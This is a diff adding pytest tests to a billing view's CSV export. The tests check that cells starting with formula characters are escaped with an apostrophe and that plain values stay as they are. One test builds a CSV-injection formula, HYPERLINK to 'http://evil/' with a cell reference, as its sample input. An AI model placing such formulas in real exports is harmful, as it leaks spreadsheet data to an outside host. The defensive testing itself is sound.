@@ -1,7 +1,9 @@
-"""A view: billing's record in plain values."""
+"""A view, billing's record in plain values, and rows as text."""
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import replace
 from datetime import UTC, datetime
 
@@ -10,6 +12,7 @@ import pytest
 from billing.accounts.account_sql import Project
 from billing.accounts.key_sql import KeyRecord
 from billing.caller import ProjectLimits
+from serve.operator import rows
 from serve.operator.accounts import Key
 from serve.operator.accounts import Project as ProjectView
 
@@ -34,3 +37,16 @@ def test_what_cannot_be_shown_after_it_was_done_is_no_mistake_of_the_request() -
     wrong = replace(PROJECT, metered="unknown")  # type: ignore[arg-type]
     with pytest.raises(RuntimeError, match="Project cannot be shown"):
         ProjectView.row(wrong)
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
+def test_text_that_a_spreadsheet_would_run_is_behind_an_apostrophe(begin: str) -> None:
+    cell = f'{begin}HYPERLINK("http://evil/"&A1)'
+    (_, row) = list(csv.reader(io.StringIO(rows.as_csv(["name"], [{"name": cell}]), newline="")))
+    assert row == [f"'{cell}"]
+
+
+@pytest.mark.parametrize("cell", ["acme", "a=b", "-0.000000001", "-12", "+3.50", "17.3456", ""])
+def test_plain_text_and_numbers_stay_as_they_are(cell: str) -> None:
+    (_, row) = list(csv.reader(io.StringIO(rows.as_csv(["name", "n"], [{"name": cell, "n": -5}]))))
+    assert row == [cell, "-5"]
